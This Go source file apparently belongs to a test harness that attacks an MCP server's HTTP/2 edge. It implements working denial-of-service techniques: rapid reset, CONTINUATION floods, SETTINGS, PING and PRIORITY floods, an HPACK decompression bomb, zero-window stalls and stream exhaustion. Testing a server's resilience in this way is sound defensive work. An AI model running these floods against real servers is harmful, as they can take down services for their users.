package main

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

var http2Attacks = []attack{
	{name: "http2-reset", what: "rapid reset: streams begun and reset at once", run: rapidReset},
	{name: "http2-continuation", what: "headers that go on without an end", run: continuation},
	{name: "http2-settings", what: "settings, each to be acknowledged, without reading", run: frames(func(w *http2.Framer) error {
		return w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})},
	{name: "http2-pings", what: "pings, each to be answered, without reading", run: frames(func(w *http2.Framer) error { return w.WritePing(false, [8]byte{1}) })},
	{name: "http2-priority", what: "priorities of streams that are not there", run: frames(func(w *http2.Framer) error {
		return w.WritePriority(3, http2.PriorityParam{StreamDep: 5, Weight: 1})
	})},
	{name: "http2-hpack", what: "headers that grow a thousandfold once decoded", run: hpackBomb},
	{name: "http2-window", what: "large results for a client whose window is zero", run: zeroWindow},
	{name: "http2-streams", what: "more streams than a connection may have", run: manyStreams},
}

// callFields are those of a modern call; the body is separate.
func callFields(tool string) []string {
	return []string{"content-type", "application/json", "accept", "application/json, text/event-stream",
		"mcp-protocol-version", modernVersion, "mcp-method", "tools/call", "mcp-name", tool}
}

// attackers run the same on some connections, again and again until the time is over: a connection that the edge
// closes is made anew.
func (s *site) attackers(ctx context.Context, n int, one func(*http2Conn) error, settings ...http2.Setting) error {
	end := time.Now().Add(s.o.duration / 2)
	return together(n, n, func(int) error {
		r := s.rogue()
		defer r.close()
		for time.Now().Before(end) && ctx.Err() == nil {
			c, err := dialHTTP2(ctx, r, settings...)
			if err != nil {
				return err
			}
			for time.Now().Before(end) && err == nil {
				err = one(c)
			}
			c.close()
		}
		return nil
	})
}

func rapidReset(ctx context.Context, s *site) error {
	return s.attackers(ctx, 4, func(c *http2Conn) error {
		id, err := c.open("POST", "/mcp", false, callFields("hang")...)
		if err != nil {
			return err
		}
		body := []byte(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"_meta":%s,"name":"hang","arguments":{}}}`, id, meta("")))
		return c.write(func(w *http2.Framer) error {
			if err := w.WriteData(id, true, body); err != nil {
				return err
			}
			return w.WriteRSTStream(id, http2.ErrCodeCancel)
		})
	})
}

func continuation(ctx context.Context, s *site) error {
	return s.attackers(ctx, 4, func(c *http2Conn) error {
		id := c.next
		c.next += 2
		block := c.block("POST", "/mcp")
		if err := c.write(func(w *http2.Framer) error {
			return w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block})
		}); err != nil {
			return err
		}
		var fields bytes.Buffer
		encoder := hpack.NewEncoder(&fields)
		for i := range 2000 {
			fields.Reset()
			_ = encoder.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: strings.Repeat("v", 4000), Sensitive: true})
			if err := c.write(func(w *http2.Framer) error { return w.WriteContinuation(id, false, fields.Bytes()) }); err != nil {
				return err
			}
		}
		return nil
	})
}

// frames sends the same frame again and again to an edge whose answers nobody reads.
func frames(frame func(*http2.Framer) error) func(context.Context, *site) error {
	return func(ctx context.Context, s *site) error {
		end := time.Now().Add(s.o.duration / 2)
		return together(4, 4, func(int) error {
			r := s.rogue()
			defer r.close()
			for time.Now().Before(end) && ctx.Err() == nil {
				conn, err := r.deaf(ctx)
				if err != nil {
					return err
				}
				_ = conn.SetWriteDeadline(end)
				w := http2.NewFramer(conn, nil)
				if _, err = conn.Write([]byte(http2.ClientPreface)); err == nil {
					err = w.WriteSettings()
				}
				for time.Now().Before(end) && err == nil {
					err = frame(w)
				}
				_ = conn.Close()
			}
			return nil
		})
	}
}

// hpackBomb refers to one large field of the table again and again.
func hpackBomb(ctx context.Context, s *site) error {
	return s.attackers(ctx, 4, func(c *http2Conn) error {
		fields := []string{}
		for range 2000 {
			fields = append(fields, "x-bomb", strings.Repeat("b", 3900))
		}
		id := c.next
		c.next += 2
		block := c.block("GET", "/mcp", fields...)
		if len(block) > 16<<10 {
			return fmt.Errorf("the block has %d bytes", len(block))
		}
		return c.write(func(w *http2.Framer) error {
			return w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
		})
	})
}

func zeroWindow(ctx context.Context, s *site) error {
	err := together(4, 4, func(int) error {
		r := s.rogue()
		defer r.close()
		c, err := dialHTTP2(ctx, r, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer c.close()
		for range 8 {
			id, err := c.open("POST", "/mcp", false, callFields("large")...)
			if err != nil {
				return nil // the edge has closed the connection
			}
			body := []byte(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"_meta":%s,"name":"large","arguments":{}}}`, id, meta("")))
			if err := c.write(func(w *http2.Framer) error { return w.WriteData(id, true, body) }); err != nil {
				return nil
			}
		}
		pause(ctx, writeTimeout+2*time.Second)
		return nil
	})
	return err
}

func manyStreams(ctx context.Context, s *site) error {
	return together(2, 2, func(int) error {
		r := s.rogue()
		defer r.close()
		c, err := dialHTTP2(ctx, r)
		if err != nil {
			return err
		}
		defer c.close()
		for range 3000 {
			if _, err := c.open("POST", "/mcp", false, callFields("hang")...); err != nil {
				return nil
			}
		}
		pause(ctx, 2*time.Second)
		return nil
	})
}
